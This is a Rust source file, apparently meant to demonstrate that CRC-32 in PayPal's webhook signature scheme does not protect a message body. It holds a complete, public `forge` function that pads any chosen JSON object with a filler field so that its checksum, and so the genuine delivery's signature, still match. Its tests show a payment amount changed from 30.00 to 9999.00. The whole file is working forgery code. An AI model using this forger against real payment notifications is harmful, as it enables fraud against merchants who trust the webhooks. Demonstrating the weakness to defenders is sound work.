//! CRC-32 as PayPal's signatures use it, and why they do not protect a body.

/// CRC-32 of IEEE 802.3 over the bytes.
#[must_use]
pub fn crc32(bytes: &[u8]) -> u32 {
    let step = |crc: u32, byte: &u8| {
        (0..8).fold(crc ^ u32::from(*byte), |crc, _| {
            if crc & 1 == 1 {
                crc >> 1 ^ 0xedb8_8320
            } else {
                crc >> 1
            }
        })
    };
    !bytes.iter().fold(u32::MAX, step)
}

/// Each character of the filler is one of these, and so carries one bit. They differ in one bit of
/// ASCII too, which keeps any filler printable.
const ZERO: u8 = b'A';
const ONE: u8 = b'C';
/// 32 bits decide the checksum; twice as many leave no body without a solution.
const FILLER_CHARS: usize = 64;

/// A JSON object with the members of `wanted` and one more, `filler`, whose CRC-32 equals that of
/// `genuine`: under PayPal's scheme it bears the genuine delivery's signature. `None` when `wanted`
/// is not the text of an object.
///
/// For equal lengths `crc(a ^ b ^ c) = crc(a) ^ crc(b) ^ crc(c)`, so flipping one character of the
/// filler changes the checksum by a value that does not depend on the others: 32 linear equations
/// over two elements.
#[must_use]
pub fn forge(genuine: &[u8], wanted: &str) -> Option<Vec<u8>> {
    let members = wanted.trim_end().strip_suffix('}')?.trim_end();
    let separator = if members.trim() == "{" { "" } else { "," };
    let mut forged = format!("{members}{separator}\"filler\":\"").into_bytes();
    let start = forged.len();
    forged.extend([ZERO; FILLER_CHARS]);
    forged.extend(b"\"}");
    let crc = crc32(&forged);
    let effect_of = |place: usize| {
        let mut flipped = forged.clone();
        flipped[start + place] = ONE;
        crc32(&flipped) ^ crc
    };
    let places = solve((0..FILLER_CHARS).map(effect_of), crc ^ crc32(genuine))?;
    for place in (0..FILLER_CHARS).filter(|place| places >> place & 1 == 1) {
        forged[start + place] = ONE;
    }
    Some(forged)
}

/// Which of the effects, as a set of bits, add up to `wanted`; by Gaussian elimination.
fn solve(effects: impl Iterator<Item = u32>, wanted: u32) -> Option<u64> {
    // By leading bit: a combination of effects, and which ones are in it.
    let mut basis = [(0_u32, 0_u64); 32];
    let reduce = |basis: &[(u32, u64); 32], mut value: u32, mut set: u64| {
        for (bit, (combined, members)) in basis.iter().enumerate().rev() {
            if *combined != 0 && value >> bit & 1 == 1 {
                value ^= combined;
                set ^= members;
            }
        }
        (value, set)
    };
    for (place, effect) in effects.enumerate() {
        let (rest, members) = reduce(&basis, effect, 1 << place);
        if rest != 0 {
            basis[31 - rest.leading_zeros() as usize] = (rest, members);
        }
    }
    let (rest, set) = reduce(&basis, wanted, 0);
    (rest == 0).then_some(set)
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;

    #[test]
    fn the_checksum_equals_the_published_check_value() {
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
        assert_eq!(crc32(b""), 0);
        assert_eq!(crc32("€".as_bytes()), 0x83f2_c8d6);
    }

    #[test]
    fn any_body_can_be_given_the_checksum_of_another() {
        let genuine = br#"{"resource":{"amount":{"value":"30.00"}}}"#;
        for wanted in [
            r#"{"resource":{"amount":{"value":"9999.00"}}}"#,
            "{}",
            " { \"a\" : 1 } ",
            r#"{"€":"}"}"#,
        ] {
            let forged = forge(genuine, wanted).unwrap();
            assert_eq!(crc32(&forged), crc32(genuine), "{wanted}");
            let mut read: Value = serde_json::from_slice(&forged).unwrap();
            let filler = read.as_object_mut().unwrap().remove("filler").unwrap();
            assert!(
                filler
                    .as_str()
                    .unwrap()
                    .bytes()
                    .all(|c| c == ZERO || c == ONE)
            );
            assert_eq!(read, serde_json::from_str::<Value>(wanted).unwrap());
        }
    }

    #[test]
    fn what_is_no_object_is_not_forged() {
        for wanted in ["", "[]", "1", "{"] {
            assert_eq!(forge(b"{}", wanted), None, "{wanted}");
        }
    }
}
